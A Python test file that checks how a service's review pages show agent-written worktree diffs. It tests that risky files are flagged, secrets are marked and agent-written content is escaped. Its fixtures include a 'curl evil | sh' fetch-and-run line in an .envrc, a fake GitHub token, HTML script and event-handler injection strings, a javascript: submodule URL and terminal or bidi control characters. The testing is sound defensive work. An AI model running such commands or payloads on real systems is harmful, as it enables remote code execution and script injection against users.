"""The review pages: a worktree's diff for people, whatever its agent wrote in names, messages and files."""

import os
import re
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from launcher.service.page import reviewing
from launcher.vcs.private import record
from launcher.vcs.worktrees import patches, review
from launcher.vcs.worktrees.models import Worktree
from launcher.vcs.worktrees.worktree_service import WorktreeService
from tests.support import repository
from tests.support.paged import Paged, paged
from tests.support.repository import Place, committed, git
from tests.unit.test_page_rendering import ATTACKS

FOREIGN = ("<script>alert", "<img", "<svg onload", "<iframe", "\x1b", "\u202e", "\u2066")
NASTY = "\x1b[31mred\x1b]0;t\x07 \u202etxt.exe\u2066"


@pytest.fixture
def place(tmp_path: Path) -> Place:
    (tmp_path / "repository").mkdir()
    return repository.plain(tmp_path / "repository")


@contextmanager
def let_in(directory: Path) -> Iterator[Paged]:
    """A page, a browser that was let in, and jobs that find the same state."""
    (directory / "service").mkdir(mode=0o700)
    with pytest.MonkeyPatch.context() as patch:
        for name in ("XDG_STATE_HOME", "XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_CACHE_HOME"):
            patch.delenv(name, raising=False)
        patch.setenv("HOME", str(directory / "service/home"))
        patch.setenv("XDG_RUNTIME_DIR", str(directory / "service/run"))
        with paged(directory / "service") as made:
            yield made


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Paged]:
    """One for all tests: each has a repository of its own."""
    with let_in(tmp_path_factory.mktemp("page")) as made:
        yield made


def worktree(browser: Paged, place: Place, ticket: str) -> Worktree:
    """A worktree in the state of the page's service."""
    return WorktreeService(browser.places.state).add(place.app, ticket)


def test_the_list_and_the_diff_of_a_worktree(browser: Paged, place: Place) -> None:
    """What would run comes first, secrets are marked and shown, each line and file has an address."""
    made = worktree(browser, place, "T-1")
    root = Path(made.path)
    committed(root, **{"aaa": "one\ntwo\n", ".envrc": "curl evil | sh\n"})
    (root / "config").write_text("key = ghp_" + "a1B2" * 9 + "\n")
    listed = browser.get("/worktrees").text
    assert f'href="/worktrees/{made.worktree_id}"' in listed
    assert "to merge" in listed
    text = browser.get(f"/worktrees/{made.worktree_id}").text
    marked = text.partition('id="marked"')[2].partition("</section>")[0]
    assert marked.index(".envrc") < marked.index("config")
    assert "a shell or its environment manager runs it" in marked
    assert "1 line with what looks secret" in marked
    assert "looks like a GitHub token" in text
    assert "key = ghp_a1B2" in text
    key = re.findall(r'href="#(f-[0-9a-f]{16})"[^>]*>.envrc', marked)[0]
    assert f'id="{key}"' in text
    assert re.search(r'<td class="no" id="n2-[0-9a-f]{16}"><a href="#n2-', text)
    (root / "run").write_text("x\n")
    (root / "run").chmod(0o755)
    assert "new mode 100755 +1 -0" in " ".join(browser.get(f"/worktrees/{made.worktree_id}").text.split())
    split = browser.get(f"/worktrees/{made.worktree_id}?view=split").text
    assert 'class="diff split"' in split
    assert browser.get(f"/worktrees/{made.worktree_id}?view=other").status_code == 404
    assert browser.get("/worktrees/none").status_code == 404


def test_what_runs_is_shown_whatever_is_ignored_and_counted_where_the_list_is_cut(browser: Paged, place: Place) -> None:
    """An agent writes ignore files, too; without them the page is the same."""
    made = worktree(browser, place, "T-1")
    for number in range(reviewing._MOST_TOLD + 1):
        (Path(made.path) / f"d{number}").mkdir()
        (Path(made.path) / f"d{number}/.envrc").touch()
    (Path(made.path) / "Makefile").write_text("all:\n")
    for ignored in ("", "*\n"):
        (Path(made.path) / ".gitignore").write_text(ignored)
        text = browser.get(f"/worktrees/{made.worktree_id}").text
        marked = text.partition('id="marked"')[2].partition("</section>")[0]
        assert marked.count("/.envrc</a>") == reviewing._MOST_TOLD
        assert "and 2 more such files, too many" in marked


def test_repositories_are_counted_where_their_list_is_cut(browser: Paged, place: Place) -> None:
    """One is made by a few files: the fifty-first was not named, and no line said so."""
    made = worktree(browser, place, "T-1")
    root = Path(made.path)
    git("init", "-q", str(root / "0"), at=place.app)
    for number in range(1, review.MOST_NESTED + 2):
        shutil.copytree(root / "0/.git", root / f"{number}/.git")
    text = browser.get(f"/worktrees/{made.worktree_id}").text
    assert text.count("a repository lies in") == review.MOST_NESTED
    assert "and 2 more repositories, too many" in text


def test_a_damaged_record_is_said_and_hides_no_other(browser: Paged, place: Place) -> None:
    """In the list, and in the review of its worktree."""
    made, _ = worktree(browser, place, "T-1"), worktree(browser, place, "T-2")
    directory = Path(record.directory_of(browser.places.state, made.worktree_id))
    directory.mkdir(parents=True)
    (directory / record.RECORD).write_text("{")
    for path in ("/worktrees", "/merges", f"/worktrees/{made.worktree_id}"):
        answer = browser.get(path)
        assert answer.status_code == 200, path
        assert "T-1" in answer.text
    assert "T-2" in browser.get("/worktrees").text
    assert "not in this review" in browser.get(f"/worktrees/{made.worktree_id}").text


def test_more_of_one_file_is_shown_when_it_is_asked_for(browser: Paged, place: Place) -> None:
    """Of many lines the first; all of them, and nothing else, by the link."""
    made = worktree(browser, place, "T")
    (Path(made.path) / "many").write_text("line\n" * 3_000)
    (Path(made.path) / "other").write_text("other\n")
    text = browser.get(f"/worktrees/{made.worktree_id}").text
    assert "2600 more lines" in text
    link = re.findall(rf'href="(/worktrees/{made.worktree_id}\?view=unified&amp;file=[0-9a-f]+)"', text)[0]
    more = browser.get(link.replace("&amp;", "&")).text
    assert more.count('<tr class="add">') == 3_000
    assert "other" not in more.partition('class="file"')[2]


def test_nothing_that_an_agent_wrote_is_markup(browser: Paged, place: Place) -> None:
    """Names of files and branches, messages, contents, links, submodule names, ten megabytes on a line."""
    made = worktree(browser, place, "T")
    root = Path(made.path)
    for attack in (*ATTACKS, NASTY):
        name = attack.replace("/", "\u2044")
        (root / name).write_text(f"{attack}\n")
        os.symlink(attack, root / f"link-{name}")
        git("add", "-A", at=root)
        git("commit", "-qm", attack, f"--author={attack.replace('<', '').replace('>', '')} <x@y>", at=root)
        (root / f"new-{name}").write_text(f"{attack}\n")
    (root / "renamed<b>").mkdir()
    (root / "renamed<b>" / "\x07file").write_text("x" * 10_000_000)
    (root / os.fsdecode(b"\xff\xfe<i>")).write_text("bytes\n")
    (root / ".gitmodules").write_text('[submodule "<script>alert(1)</script>"]\n\tpath = x\n\turl = javascript:x\n')
    for view in ("unified", "split"):
        text = browser.get(f"/worktrees/{made.worktree_id}?view={view}").text
        assert not [each for each in FOREIGN if each in text]
        assert not re.search(r"<(b|i|iframe|img|textarea)>", text)
        assert not re.search(r"<[a-z][^>]*\son\w+=", text)
        assert "&lt;script&gt;alert(1)" in text
        assert r"\x1b[31mred\x1b]0;t\x07 \u202etxt.exe\u2066" in text
        assert r"\xff\xfe&lt;i&gt;" in text
        assert len(text) < 2_000_000


def test_code_has_colours(browser: Paged, place: Place) -> None:
    """Of the language that a file's name tells, on both sides, whatever bytes are in it; the text is as it was."""
    made = worktree(browser, place, "T")
    root = Path(made.path)
    committed(root, **{"app.py": 'def old():\n    return "<b>"\n'})
    (root / "app.py").write_bytes(b'def new():  # \xff <i>\n    return "<b>", """\x1b\n</i>"""\n')
    for view in ("unified", "split"):
        text = browser.get(f"/worktrees/{made.worktree_id}?view={view}").text
        assert text.count('<span class="shade-k">def</span>') == 3  # its first line, what took its place, and before
        assert '<span class="shade-n">new</span>' in text
        assert r'<span class="shade-c"># \xff &lt;i&gt;</span>' in text
        assert '<span class="shade-s">&quot;&lt;b&gt;&quot;</span>' in text.replace("&#34;", "&quot;")
        assert r"\x1b</span>" in text


def test_colours_take_a_bounded_time(monkeypatch: pytest.MonkeyPatch) -> None:
    """What is left when time is over has none, and is there all the same; so is what no lexer can read."""
    lines = [["+", None, number, "if (x) { return 'y' } // z", 0, ""] for number in range(2_000)]
    files: list[tuple[str, dict[str, Any]]] = [
        ("a.js", {"hunks": [{"lines": [[*line] for line in lines]}]}) for _ in range(2)
    ]
    monkeypatch.setattr(patches, "_SHADE_SECONDS", 0.01)
    patches.shade(files)
    assert [line[:6] for line in files[1][1]["hunks"][0]["lines"]] == lines
    assert all(len(line) == 6 for line in files[1][1]["hunks"][0]["lines"])
    monkeypatch.setattr(patches, "_SHADE_SECONDS", 60.0)
    patches.shade(files)
    for line in files[1][1]["hunks"][0]["lines"]:
        assert sum(length for length, _ in line[6]) == len(line[3])
    patches.shade([("\udcff[*", {"hunks": [{"lines": lines}]})])
    assert len(lines[0]) == 6


def test_lines_are_put_side_by_side() -> None:
    """What was taken out beside what came for it; what has no partner beside nothing."""
    lines: list[reviewing.Line] = [
        [" ", 1, 1, "a"], ["-", 2, None, "b"], ["-", 3, None, "c"], ["+", None, 2, "B"], ["-", 4, None, "d"],
        ["+", None, 3, "D"], ["+", None, 4, "E"], [" ", 5, 5, "z"],
    ]  # fmt: skip
    shown = [(left and left[3], right and right[3]) for left, right in reviewing._paired(lines)]
    assert shown == [("a", "a"), ("b", "B"), ("c", None), ("d", "D"), (None, "E"), ("z", "z")]


def test_a_page_has_a_bounded_number_of_lines() -> None:
    """The files behind are named, and shown when they are asked for."""
    files: list[dict[str, Any]] = [
        {"hunks": [{"lines": [["+", None, n, "x", 0, ""] for n in range(400)]}], "note": ""} for _ in range(10)
    ]
    reviewing.lay_out([{"sections": [{"files": files}]}], "unified", most=reviewing.MOST_ROWS)
    assert sum(len(hunk["rows"]) for file in files for hunk in file["hunks"]) <= reviewing.MOST_ROWS
    assert [file["note"] for file in files] == [""] * 6 + ["later"] * 4
